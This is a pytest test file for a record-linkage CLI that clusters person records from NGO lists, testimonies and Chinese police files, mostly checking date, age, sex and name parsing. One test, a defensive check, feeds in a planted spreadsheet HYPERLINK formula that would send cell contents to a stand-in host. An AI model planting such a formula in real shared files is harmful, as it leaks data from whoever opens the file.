"""`kirok link dedupe`: an analyst's CSV in, clusters out, clear errors for bad files."""

from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from kirok.cli import dedupe as dedupe_module
from kirok.cli.dedupe import dedupe
from kirok.linkage.engine.features import normal_sex

HEADER = "record_id,source,name,name_hangul,sex,birth_year,age_at_event,event_year,hometown,notes\n"
ROWS = [
    "ngo-17,ngo list,Kim Hye-song,,female,,35,2019,Hyesan,seen 2019\n",
    "testimony-4,testimony,,김혜송,female,1984,,,혜산시,\n",
    "un-203,UN,Hyesong Kim,,,1985,,,Hyesan-si,\n",
    "other-1,ngo list,Pak Myong-chol,,male,1950,,,Sinuiju,\n",
    "other-2,ngo list,Choe Sun-hui,,female,1990,,,Kanggye,\n",
]


def run(tmp_path: Path, content: bytes, *extra: str):
    source = tmp_path / "people.csv"
    source.write_bytes(content)
    out = tmp_path / "clusters.csv"
    result = CliRunner().invoke(dedupe, [str(source), "--out", str(out), *extra])
    return result, out


def clusters_of(tmp_path: Path, content: str) -> dict[str, str]:
    """record_id → cluster_id of a successful run on ``content``."""
    result, out = run(tmp_path, content.encode())
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8") as handle:
        return {r["record_id"]: r["cluster_id"] for r in csv.DictReader(handle)}


def test_clusters_written_in_input_order(tmp_path):
    result, out = run(tmp_path, (HEADER + "".join(ROWS)).encode("utf-8"))
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["record_id", "cluster_id", "match_probability"]
    assert [r["record_id"] for r in rows] == [
        "ngo-17",
        "testimony-4",
        "un-203",
        "other-1",
        "other-2",
    ]
    by_id = {r["record_id"]: r for r in rows}
    assert {by_id[r]["cluster_id"] for r in ("ngo-17", "testimony-4", "un-203")} == {"ngo-17"}
    assert float(by_id["testimony-4"]["match_probability"]) >= 0.9
    # a record alone in its cluster has no link, so no probability
    assert by_id["other-1"] == {
        "record_id": "other-1",
        "cluster_id": "other-1",
        "match_probability": "",
    }
    assert "Linking 5 records" in result.stderr
    assert "5 records, 3 clusters." in result.stderr


def test_a_byte_order_mark_and_only_some_columns_are_fine(tmp_path):
    content = "\ufeffname,record_id\nKim Hye-song,a\n김혜송,b\n".encode()
    result, out = run(tmp_path, content)
    assert result.exit_code == 0, result.output
    assert (
        out.read_text(encoding="utf-8").splitlines()[0] == "record_id,cluster_id,match_probability"
    )


def test_a_full_date_of_birth_is_read_and_used(tmp_path):
    content = (
        "record_id,name,birth_date\n"
        "a,Kim Young-ho,1970-03-02\n"
        "b,Kim Yongo,19700302\n"  # the basic ISO form is read too
        "c,Kim Young-ho,1970-11-21\n"
    )
    clusters = clusters_of(tmp_path, content)
    assert clusters["a"] == clusters["b"] == "a"


def test_a_chinese_record_in_chinese_characters_joins_the_korean_and_romanized_ones(tmp_path):
    # Chinese police and court records write a North Korean's name, sex and town in Chinese
    # characters, often simplified (刘 for 劉, 会宁 for 會寧).
    content = (
        "record_id,source,name,sex,birth_year,hometown\n"
        "ngo-17,ngo list,Kim Hye-song,female,1984,Hyesan\n"
        "cn-88,chinese police,金惠松,女,1984,两江道 惠山市\n"
        "testimony-4,testimony,김혜송,여성,1984,혜산시\n"
        "cn-89,chinese police,刘英哲,男,1962,会宁市\n"
        "ngo-31,ngo list,Ryu Yong-chol,male,1962,Hoeryong\n"
        "cn-90,chinese police,朴明哲,男,1950,新义州市\n"
        "ngo-40,ngo list,Choe Sun-hui,female,1990,Kanggye\n"
    )
    clusters = clusters_of(tmp_path, content)
    assert clusters["ngo-17"] == clusters["cn-88"] == clusters["testimony-4"]
    assert clusters["cn-89"] == clusters["ngo-31"]
    assert len(set(clusters.values())) == 4  # 朴明哲 and Choe Sun-hui stay alone


def test_a_cell_with_two_names_without_brackets_is_read_as_two(tmp_path):
    # "일명" (also called) between two names, and a Hangul name with its romanization after a
    # comma: read whole, neither cell was any name, and the records stayed apart.
    content = (
        "record_id,name,sex,birth_year,hometown\n"
        "a,박순옥 일명 김혜송,F,,\n"
        "b,김혜송,F,1984,\n"
        'c,"김혜송, Kim Hye-song",F,,\n'
        "d,Kim Hye-song,,,\n"
        "e,이영철,M,1962,회령\n"
    )
    clusters = clusters_of(tmp_path, content)
    assert clusters["a"] == clusters["b"] == clusters["c"] == clusters["d"] != clusters["e"]


def test_years_ages_and_sexes_as_korean_spreadsheets_write_them():
    records = dedupe_module.parse_records(
        "record_id,sex,birth_year,age_at_event,event_year\n"
        "a,여성,1984년생,,\n"
        "b,남자,약 1984,35세,2019년\n"
        "c,F.,1984?,about 35,\n"
    )
    a, b, c = records
    assert (a.birth_year, a.birth_year_range) == (1984, None)
    # "about" and a question mark make the year a range: a stated 1983 still overlaps it
    assert (b.birth_year, b.birth_year_range) == (None, (1983, 1985)) == (None, c.birth_year_range)
    assert (b.age_at_event, b.event_year, c.age_at_event) == (35, 2019, 35)
    assert [normal_sex(r.sex) for r in records] == ["female", "male", "female"]


@pytest.mark.parametrize(
    ("written", "sex"),
    [
        ("F (여)", "female"),
        ("여(F)", "female"),
        ("Female / 여성", "female"),
        ("남성(M)", "male"),
        ("W", "female"),
        ("girl", "female"),
        ("남아", "male"),  # a boy, in Korean records of children
        ("M/F", None),  # both: not known
        ("2", None),  # a code whose meaning the list does not say
    ],
)
def test_a_sex_written_twice_or_as_a_child_s(written, sex):
    assert normal_sex(written) == sex


def test_a_birth_year_as_koreans_say_it_or_marked_as_estimated():
    records = dedupe_module.parse_records(
        "record_id,birth_year\na,84년생\nb,'84\nc,1984년경\nd,1984 (추정)\ne,05년생\n"
    )
    a, b, c, d, e = records
    assert a.birth_year == b.birth_year == 1984
    assert c.birth_year_range == d.birth_year_range == (1983, 1985)  # about: ±1, as "약 1984"
    assert e.birth_year == 2005  # this century, since 2005 has come


def test_an_age_group_or_a_span_of_ages_with_the_event_year_gives_the_birth_years():
    records = dedupe_module.parse_records(
        "record_id,age_at_event,event_year\n"
        "a,30대,2019\n"  # in their thirties in 2019: born 1979–1990 with the age's margin
        "b,30대 후반,2019\n"
        "c,late 30s,2019\n"
        "d,35-40세,2019\n"
        "e,만 35세,2019\n"  # the international age is an age like any other
        "f,30대,\n"  # no event year: nothing to count back from
    )
    a, b, c, d, e, f = records
    assert a.birth_year_range == (1979, 1990) and a.event_year == 2019
    assert b.birth_year_range == c.birth_year_range == (1979, 1983)  # aged 37–39
    assert d.birth_year_range == (1978, 1985)
    assert (e.age_at_event, e.event_year, e.birth_year_range) == (35, 2019, None)
    assert (f.age_at_event, f.birth_year_range) == (None, None)


@pytest.mark.parametrize(
    ("written", "ages"),
    [
        ("aged 35", (35, 35)),
        ("age of 35", (35, 35)),
        ("35 years old", (35, 35)),
        ("35 yrs", (35, 35)),
        ("35 y.o.", (35, 35)),
        ("35 (approx.)", (35, 35)),
        ("35세 가량", (35, 35)),  # about 35
        ("35세쯤", (35, 35)),
        ("35세경", (35, 35)),
        ("thirties", (30, 39)),
        ("in her early thirties", (30, 33)),
        ("30여세", (30, 39)),  # thirty-odd
        ("30대초", (30, 33)),  # 30대 초반, shortened
        ("teens", (13, 19)),
    ],
)
def test_an_age_as_lists_and_testimonies_write_it(written, ages):
    [record] = dedupe_module.parse_records(f"record_id,age_at_event,event_year\na,{written},2019\n")
    low, high = ages
    if low == high:
        assert (record.age_at_event, record.birth_year_range) == (low, None)
    else:  # an age group: the birth years it allows, with the age's margin of one year
        assert record.birth_year_range == (2019 - high - 1, 2019 - low + 1)


def test_the_event_year_column_takes_the_date_of_the_event():
    records = dedupe_module.parse_records(
        "record_id,age_at_event,event_year,birth_year\n"
        "a,35,2019-05-03,\n"
        "b,35,2019년 5월,\n"
        "c,35,2019.05.03,\n"
        "d,35,2018~2019,\n"  # a period: the birth years it allows
        "e,35,2018~2019,1984\n"  # a stated birth year is not overridden
    )
    assert [r.event_year for r in records[:3]] == [2019, 2019, 2019]
    assert records[3].event_year is None and records[3].birth_year_range == (1982, 1985)
    assert (records[4].birth_year, records[4].birth_year_range) == (1984, None)


def test_an_event_date_with_the_year_last_or_one_of_two_years():
    records = dedupe_module.parse_records(
        "record_id,age_at_event,event_year\n"
        "a,35,03/05/2019\n"  # day and month in either order: the year is 2019 either way
        "b,35,3.5.2019\n"
        "c,35,2018 or 2019\n"  # one of two years: the birth years both allow
        "d,35,2019 또는 2018\n"
    )
    assert [r.event_year for r in records[:2]] == [2019, 2019]
    assert records[2].birth_year_range == records[3].birth_year_range == (1982, 1985)


def test_a_birth_year_known_within_a_span_or_a_decade_is_a_range():
    records = dedupe_module.parse_records(
        "record_id,birth_year\na,1984-1986\nb,1984~86\nc,1980년대생\nd,1980s\ne,1984–1986년생\n"
    )
    assert {r.birth_year for r in records} == {None}
    spans = [r.birth_year_range for r in records]
    assert spans == [(1984, 1986), (1984, 1986), (1980, 1989), (1980, 1989), (1984, 1986)]


def test_one_of_two_birth_years_is_the_range_of_both_in_either_order():
    records = dedupe_module.parse_records(
        'record_id,birth_year\na,1984 or 1985\nb,1984/85\nc,1985 또는 1984\nd,"1985, 1984"\n'
        "e,1984/05\n"
    )
    ranges = [r.birth_year_range for r in records]
    assert ranges == [(1984, 1985), (1984, 1985), (1984, 1985), (1984, 1985), None]
    assert records[-1].birth_year == 1984  # "1984/05" is May 1984


def test_a_year_and_month_as_korean_documents_write_them_gives_the_year():
    records = dedupe_module.parse_records(
        "record_id,birth_year\na,1984.5\nb,1984-05\nc,1984년 5월생\nd,1984/12\ne,1984.0\n"
    )
    assert [(r.birth_year, r.birth_year_range) for r in records] == [(1984, None)] * 5


def test_numbers_and_dates_as_spreadsheet_programs_and_korean_lists_write_them():
    records = dedupe_module.parse_records(
        "Record ID,Name,Birth Year,age_at_event,event-year,birth_date,hometown\n"
        "a,Kim Hye-song,1984.0,35.0,2019.0,,NA\n"  # pandas writes a number column with gaps so
        "b,김혜송,1984.03.05,,,,미상\n"  # a whole date in the year column
        "c,Ri Chol,nan,,,1984. 3. 5.,\n"
        "d,Pak Chol,,,,1984년 3월 5일,\n"
        "e,Pak Chol,,,,1984/3/5 00:00:00,\n"
    )
    a, b, c, d, e = records
    assert (a.birth_year, a.age_at_event, a.event_year, a.hometown) == (1984, 35, 2019, None)
    assert (b.birth_year, b.birth_date, b.hometown) == (1984, "1984-03-05", None)
    assert c.birth_year is None
    assert c.birth_date == d.birth_date == e.birth_date == "1984-03-05"


def test_a_date_with_the_year_last_gives_its_day_when_the_order_is_certain():
    """25/03/1984 can only be 25 March; 03/02/1984 is 3 February or 2 March, so it gives the
    year alone, in either column, rather than stop the whole list."""
    records = dedupe_module.parse_records(
        "record_id,birth_year,birth_date\n"
        "a,25/03/1984,\n"
        "b,3/25/1984,\n"
        "c,03/02/1984,\n"
        "d,,25.03.1984\n"
        "e,,03/02/1984\n"
        "f,19840325,\n"
    )
    assert [(r.birth_year, r.birth_date) for r in records] == [
        (1984, "1984-03-25"),
        (1984, "1984-03-25"),
        (1984, None),
        (None, "1984-03-25"),
        (1984, None),
        (1984, "1984-03-25"),
    ]
    for impossible in ("31/02/1984", "25/03/2090"):
        with pytest.raises(dedupe_module.InputError, match="line 2: birth_year"):
            dedupe_module.parse_records(f"record_id,birth_year\na,{impossible}\n")


def test_threshold_one_links_nothing(tmp_path):
    result, out = run(tmp_path, (HEADER + "".join(ROWS)).encode(), "--threshold", "1")
    assert result.exit_code == 0
    with out.open(encoding="utf-8") as handle:
        assert all(r["cluster_id"] == r["record_id"] for r in csv.DictReader(handle))


def test_one_record_is_one_cluster_in_the_summary(tmp_path):
    result, _out = run(tmp_path, (HEADER + ROWS[0]).encode())
    assert result.exit_code == 0, result.output
    assert "Linking 1 record from" in result.stderr
    assert "1 record, 1 cluster." in result.stderr


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"name,sex\nKim,male\n", "no record_id column"),
        (b"record_id,name\na,Kim Chol\na,Ri Chol\n", "repeats line 2"),
        # Korean Excel's "CSV": the message says how to save it as UTF-8
        ("record_id,name\na,김혜송\n".encode("euc-kr"), "'CSV UTF-8 (comma delimited)'"),
        (b"record_id,name\na,\xff\xfe\n", "is not UTF-8 text (byte 17); save it as CSV UTF-8."),
        (b"", "is empty"),
        (b"record_id,name\n", "no records"),
        (b"record_id,birth_year\na,nineteen\n", "not a whole number"),
        (b"record_id,name\n,Kim Chol\n", "record_id is empty"),
        (b"record_id,birth_year\na,99999999999999999999\n", "not between 1850 and"),
        (b"record_id,event_year\na,-5\n", "event_year -5 is not between"),
        (b"record_id,age_at_event\na,350\n", "age_at_event 350 is not between 0 and 130"),
        (b"record_id;name\na;Kim Chol\n", "separated by something else than commas"),
        (b"record_id,birth_date\na,1984-02-30\n", "birth_date '1984-02-30' is not a calendar"),
        (b"record_id,birth_date\na,1984\n", "a year alone goes in birth_year"),
        (b"record_id,birth_date\na,2999-01-01\n", "birth_date 2999-01-01 is not between"),
        (b"record_id,birth_year\na,1984.13\n", "birth_year '1984.13' is not a whole number"),
        (b"record_id,birth_year\na,1984.02.30\n", "birth_year '1984.02.30' is not a calendar"),
        (b"record_id,birth_year\na,1986-1984\n", "'1986-1984' is not a span of years"),
        ("record_id,age_at_event\na,서른쯤\n".encode(), "is not an age (35, 35세"),
        (b"record_id,age_at_event\na,40-35\n", "not a span of ages between 0 and 130"),
        (b"record_id,event_year\na,2019-02-30\n", "event_year '2019-02-30' is not a year or"),
        (b"record_id,event_year\na,13/13/2019\n", "event_year '13/13/2019' is not a year or"),
        (b"record_id,event_year\na,2019-2018\n", "event_year '2019-2018' is not a span"),
        # A lenient reader made the rest of the file one cell, and linked one record of three.
        (
            b'record_id,name\na,"Kim Hye-song\nb,Ri Chol\nc,Pak\n',
            "line 2: not valid CSV (unexpected end of data; a quotation mark opened there is",
        ),
        (b'record_id,name\na,"Kim" Hye-song\n', "line 2: not valid CSV"),
    ],
    ids=[
        "no-record-id",
        "duplicate",
        "euc-kr",
        "not-utf-8",
        "empty",
        "header-only",
        "bad-year",
        "blank-id",
        "huge-year",
        "negative-year",
        "old-age",
        "semicolons",
        "no-such-day",
        "year-as-date",
        "future-date",
        "no-such-month",
        "no-such-day-in-year-column",
        "span-backwards",
        "age-in-words",
        "age-span-backwards",
        "no-such-event-day",
        "no-such-event-month",
        "event-span-backwards",
        "unclosed-quote",
        "text-after-quote",
    ],
)
def test_bad_input_is_a_clear_error_and_writes_nothing(tmp_path, content, message):
    result, out = run(tmp_path, content)
    assert result.exit_code != 0
    assert message in result.stderr
    assert "Traceback" not in result.output
    assert not out.exists()
    assert list(tmp_path.iterdir()) == [tmp_path / "people.csv"]  # no temporary left over


def test_an_id_that_a_spreadsheet_would_run_as_a_formula_is_written_defused(tmp_path):
    # A list shared by a partner may carry planted ids; the analyst opens the clusters in a
    # spreadsheet program.
    planted = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    content = f'record_id,name\n"{planted.replace(chr(34), chr(34) * 2)}",김혜송\nb,Kim Hye-song\n'
    result, out = run(tmp_path, content.encode())
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["record_id"] == "'" + planted
    assert {row["cluster_id"] for row in rows} == {"'" + planted}  # its cluster is named so too
    assert not any(cell.startswith("=") for row in rows for cell in row.values())


def test_the_spreadsheet_cell_helper_keeps_its_examples_true():
    import doctest

    from kirok.lib import spreadsheet_cells

    assert doctest.testmod(spreadsheet_cells).failed == 0


def test_a_paragraph_in_a_year_cell_is_quoted_short_in_the_error():
    paragraph = "그는 1984년에 태어났다고 한다. " * 500
    with pytest.raises(dedupe_module.InputError) as refused:
        dedupe_module.parse_records(f'record_id,birth_year\na,"{paragraph}"\n')
    message = refused.value.message
    assert message.startswith("line 2: birth_year '그는 1984년에") and "…'" in message
    assert len(message) < 150


def test_a_file_beyond_the_limit_is_refused(tmp_path, monkeypatch):
    # The real limit is 100 MB; a smaller one stands in so the test does not write 100 MB.
    monkeypatch.setattr(dedupe_module, "MAX_INPUT_BYTES", 100)
    result, out = run(tmp_path, (HEADER + "".join(ROWS)).encode())
    assert result.exit_code != 0
    assert "the limit is 100 bytes" in result.stderr
    assert not out.exists()


def _python(script: str, tmp_path: Path) -> str:
    """Run ``script`` in a fresh interpreter with no Kirok or Django settings at all."""
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, env=env, cwd=Path.cwd()
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def test_the_engine_imports_no_django(tmp_path):
    script = "import sys, kirok.linkage.engine\nprint('django' in sys.modules)\n"
    assert _python(script, tmp_path) == "False"


def test_dedupe_runs_without_django_settings_or_database(tmp_path):
    source = tmp_path / "people.csv"
    source.write_text(HEADER + "".join(ROWS), encoding="utf-8")
    script = (
        "import sys\n"
        "from click.testing import CliRunner\n"
        "from kirok.cli.dedupe import dedupe\n"
        f"r = CliRunner().invoke(dedupe, [{str(source)!r}, '--out', {str(tmp_path / 'o.csv')!r}])\n"
        "assert r.exit_code == 0, r.output\n"
        "django = sys.modules.get('django.conf')\n"
        "print(bool(django and django.settings.configured))\n"
    )
    assert _python(script, tmp_path) == "False"
    assert (tmp_path / "o.csv").read_text(encoding="utf-8").count("\n") == len(ROWS) + 1


def test_korean_headings_name_their_columns():
    records = dedupe_module.parse_records(
        "번호,성명,성별,출생연도,고향\nA-1,김가상,여,1984년생,회령\n"
    )
    [record] = records
    assert (record.record_id, record.names, record.sex) == ("A-1", ("김가상",), "여")
    assert (record.birth_year, record.hometown) == (1984, "회령")


def test_an_excel_workbook_is_read_as_its_list(tmp_path):
    import io

    import openpyxl

    book = openpyxl.Workbook()
    for row in [["record_id", "name", "birth_year"], ["a", "Kim Hye-song", 1984.0],
                ["b", "김혜송", 1984.0], ["c", "Pak Chol-ho", 1950.0]]:  # fmt: skip
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    (tmp_path / "people.xlsx").write_bytes(buffer.getvalue())
    out = tmp_path / "clusters.csv"
    result = CliRunner().invoke(dedupe, [str(tmp_path / "people.xlsx"), "--out", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    cluster = {row["record_id"]: row["cluster_id"] for row in rows}
    assert cluster["a"] == cluster["b"] != cluster["c"]
